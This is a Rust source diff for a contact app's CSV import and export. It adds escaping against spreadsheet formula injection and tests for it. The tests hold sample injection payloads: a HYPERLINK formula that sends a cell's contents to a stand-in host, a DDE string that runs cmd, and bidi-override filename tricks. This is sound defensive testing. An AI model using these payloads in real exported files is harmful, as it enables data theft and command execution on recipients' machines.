@@ -19,6 +19,8 @@
 //! Other dates (`label: date`, a life event marked `label (life event): date`, a one-off date
 //! `(once)`, several joined by ` ::: `), Family (`Name (relation, date)`,
 //! several joined by ` ::: `), Notes. Dates are ISO (`1980-04-15`, or `--04-15` without a year).
+//! No cell runs as a formula in a spreadsheet: [`escape_cell`] puts a `'` where one would begin
+//! (OWASP's advice against CSV injection), and [`unescape_cell`] takes it away on reading.
 
 use super::text::{self, excerpt};
 use super::vcard::{add_milestone, add_note, add_relative, milestone, milestone_from_label, relation_from};
@@ -26,6 +28,9 @@ use super::{Incoming, Parsed, Skipped};
 use crate::i18n::grouped;
 use crate::model::{CsvField, CsvMapping, Labelled, MilestoneKind, PartialDate, Person, Recurrence};
 use crate::t;
+
+mod write;
+pub use write::{EXPORT_HEADERS, encode, escape_cell, separator_for, unescape_cell};
 
 /// Google's separator between several values in one cell.
 const MULTI: &str = " ::: ";
@@ -421,7 +426,8 @@ pub fn decode(bytes: &[u8], options: &Options<'_>) -> Result<(Parsed, Header), S
             // The row as a spreadsheet numbers it: the header is row 1. Cells past the last
             // header have no column to go in; a row with nothing in its columns is no record.
             Ok(record) => {
-                let cells: Vec<String> = record.iter().take(columns).map(str::to_owned).collect();
+                let cells: Vec<String> =
+                    record.iter().take(columns).map(|cell| unescape_cell(cell).into_owned()).collect();
                 if !cells.iter().all(|c| c.trim().is_empty()) {
                     rows.push((index + 1, cells));
                 }
@@ -813,135 +819,6 @@ fn row_to_person(
     Ok(person)
 }
 
-/// The separator a language's Excel expects: `;` where the decimal mark is a comma.
-pub fn separator_for(lang: &str) -> u8 {
-    match lang.split(['-', '_']).next().unwrap_or_default() {
-        "en" => b',',
-        _ => b';',
-    }
-}
-
-/// The header row Kindred writes (see the module documentation).
-pub const EXPORT_HEADERS: [&str; 21] = [
-    "Name",
-    "First name",
-    "Last name",
-    "Organisation",
-    "Title",
-    "E-mail",
-    "Other e-mails",
-    "Phone",
-    "Other phones",
-    "Address",
-    "Website",
-    "Tags",
-    "Status",
-    "Key account",
-    "Birthday",
-    "Wedding anniversary",
-    "Customer since",
-    "Work anniversary",
-    "Other dates",
-    "Family",
-    "Notes",
-];
-
-/// Writes people as CSV with a BOM, CRLF line ends and `delimiter` between fields.
-pub fn encode(people: &[Person], delimiter: u8) -> String {
-    let mut writer = ::csv::WriterBuilder::new()
-        .delimiter(delimiter)
-        .terminator(::csv::Terminator::CRLF)
-        .from_writer(Vec::with_capacity(people.len() * 200 + 256));
-    let mut rows: Vec<Vec<String>> = Vec::with_capacity(people.len() + 1);
-    rows.push(EXPORT_HEADERS.iter().map(|h| (*h).to_owned()).collect());
-    for person in people {
-        rows.push(export_row(person));
-    }
-    for row in rows {
-        // Writing to a Vec cannot fail.
-        let _ = writer.write_record(&row);
-    }
-    let bytes = writer.into_inner().unwrap_or_default();
-    format!("\u{feff}{}", String::from_utf8_lossy(&bytes))
-}
-
-fn export_row(person: &Person) -> Vec<String> {
-    let name = person.name.trim();
-    let (first, last) = name.rsplit_once(' ').unwrap_or((name, ""));
-    let joined = |items: &[Labelled]| items.iter().skip(1).map(|e| e.value.as_str()).collect::<Vec<_>>().join(MULTI);
-    let first_of = |items: &[Labelled]| items.first().map(|e| e.value.clone()).unwrap_or_default();
-    let date_of = |kind: MilestoneKind| {
-        person
-            .milestones
-            .iter()
-            .find(|m| m.kind == kind && m.family_member.is_none())
-            .map(|m| m.date.to_string())
-            .unwrap_or_default()
-    };
-    let main = [
-        MilestoneKind::Birthday,
-        MilestoneKind::WeddingAnniversary,
-        MilestoneKind::CustomerSince,
-        MilestoneKind::WorkAnniversary,
-    ];
-    let mut first_seen = std::collections::HashSet::new();
-    let other_dates: Vec<String> = person
-        .milestones
-        .iter()
-        .filter(|m| m.family_member.is_none() && m.kind != MilestoneKind::FamilyBirthday)
-        .filter(|m| !(main.contains(&m.kind) && first_seen.insert(m.kind.clone())))
-        .map(|m| {
-            let label = match m.kind {
-                MilestoneKind::Birthday => "Birthday".to_owned(),
-                MilestoneKind::WeddingAnniversary => "Anniversary".to_owned(),
-                MilestoneKind::CustomerSince => "Customer since".to_owned(),
-                MilestoneKind::WorkAnniversary => "Work anniversary".to_owned(),
-                _ if m.label.trim().is_empty() => "Other".to_owned(),
-                _ => m.label.trim().replace([':', '(', ')'], " "),
-            };
-            let life = if m.kind == MilestoneKind::LifeEvent { LIFE_EVENT } else { "" };
-            let once = if m.recurrence == Recurrence::Once { ONCE } else { "" };
-            format!("{label}{life}{once}: {}", m.date)
-        })
-        .collect();
-    let family: Vec<String> = person
-        .life
-        .family
-        .iter()
-        .map(|m| {
-            let birthday =
-                m.birthday.or_else(|| person.milestones.iter().find(|x| x.family_member == Some(m.id)).map(|x| x.date));
-            match birthday {
-                Some(date) => format!("{} ({}, {date})", m.name.trim(), m.relation.word()),
-                None => format!("{} ({})", m.name.trim(), m.relation.word()),
-            }
-        })
-        .collect();
-    vec![
-        name.to_owned(),
-        first.to_owned(),
-        last.to_owned(),
-        person.organisation.clone(),
-        person.role.clone(),
-        first_of(&person.contact.emails),
-        joined(&person.contact.emails),
-        first_of(&person.contact.phones),
-        joined(&person.contact.phones),
-        person.contact.address.clone(),
-        person.contact.website.clone(),
-        person.tags.join(MULTI),
-        person.status.label().to_owned(),
-        if person.key_account { "yes" } else { "" }.to_owned(),
-        date_of(MilestoneKind::Birthday),
-        date_of(MilestoneKind::WeddingAnniversary),
-        date_of(MilestoneKind::CustomerSince),
-        date_of(MilestoneKind::WorkAnniversary),
-        other_dates.join(MULTI),
-        family.join(MULTI),
-        person.life.notes.clone(),
-    ]
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -1106,6 +983,53 @@ mod tests {
     }
 
     #[test]
+    fn cells_a_spreadsheet_would_run_get_a_quote_and_read_back_as_they_were() {
+        let values = [
+            ("=HYPERLINK(\"http://x.example/?\"&A1;\"Click\")", "'=HYPERLINK(\"http://x.example/?\"&A1;\"Click\")"),
+            ("+45 20 30 40 50", "'+45 20 30 40 50"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+            ("\t=1+2", "'\t'=1+2"),
+            ("\r=1+2", "'\r'=1+2"),
+            ("\n=1+2", "'\n'=1+2"),
+            ("  =1+2", "'  =1+2"),
+            ("\"=1+2", "'\"=1+2"),
+            ("'=1+2", "''=1+2"),
+            ("''+1", "'''+1"),
+            // Where a spreadsheet splitting on another separator, or a line break, begins a cell.
+            ("Fisker;=HYPERLINK(1)", "Fisker;'=HYPERLINK(1)"),
+            ("a, +1 b,c", "a,' +1 b,c"),
+            ("Notes\n- one\n- two", "Notes\n'- one\n'- two"),
+            ("Ida (daughter, --05-03)", "Ida (daughter,' --05-03)"),
+            ("'tis the season", "'tis the season"),
+            ("rock,'n roll", "rock,'n roll"),
+            ("''", "''"),
+            ("Søren =1+2, 3", "Søren =1+2, 3"),
+            ("", ""),
+        ];
+        for (value, written) in values {
+            let cell = escape_cell(value);
+            assert_eq!(cell, written, "{value:?}");
+            assert_eq!(unescape_cell(&cell), value, "{value:?} reads back");
+        }
+        // Bidirectional formatting is dropped first: it would hide what the cell begins with.
+        assert_eq!(escape_cell("\u{202E}=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0");
+        assert_eq!(escape_cell("Anne\u{202E}fdp.exe\u{1}"), "Annefdp.exe");
+    }
+
+    #[test]
+    fn a_cell_is_quoted_for_every_separator_a_spreadsheet_might_use() {
+        let mut person = Person::named("Anne Lund");
+        person.organisation = "Bager; =1+2".into();
+        person.role = "a,b\tc".into();
+        let text = encode(std::slice::from_ref(&person), b',');
+        let row = text.lines().nth(1).expect("a row");
+        assert!(row.contains(",\"Bager;' =1+2\",\"a,b\tc\","), "{row}");
+        let text = encode(std::slice::from_ref(&person), b';');
+        assert!(text.lines().nth(1).expect("a row").contains(";\"Bager;' =1+2\";\"a,b\tc\";"), "{text}");
+    }
+
+    #[test]
     fn written_rows_read_back() {
         let mut person = Person::named("Søren Østergaard");
         person.organisation = "Østergaard VVS; Fyn".into();
@@ -1122,6 +1046,8 @@ mod tests {
         add_relative(&mut person, "Ida", Relation::Daughter, PartialDate::ymd(2015, 5, 3));
         add_relative(&mut person, "Lars", Relation::Spouse, None);
         person.life.notes = "Fisker;\n\"har\" barnebarn".into();
+        person.contact.phones.push(Labelled { label: "mobile".into(), value: "+45 20 30 40 50".into() });
+        person.role = "=Boss".into();
         for delimiter in [b';', b','] {
             let text = encode(std::slice::from_ref(&person), delimiter);
             assert!(text.starts_with('\u{feff}'));
@@ -1132,6 +1058,8 @@ mod tests {
             assert_eq!(back.contact.emails.len(), 2);
             assert_eq!((back.status, back.key_account), (Status::Customer, true));
             assert_eq!(back.life.notes, person.life.notes);
+            assert_eq!((back.role.as_str(), back.contact.phones[0].value.as_str()), ("=Boss", "+45 20 30 40 50"));
+            assert!(text.contains("'+45 20 30 40 50") && text.contains("'=Boss") && text.contains("'--02-29"));
             let dates =
                 |p: &Person| p.milestones.iter().map(|m| (m.kind.clone(), m.date, m.label.clone())).collect::<Vec<_>>();
             assert_eq!(dates(back), dates(&person));
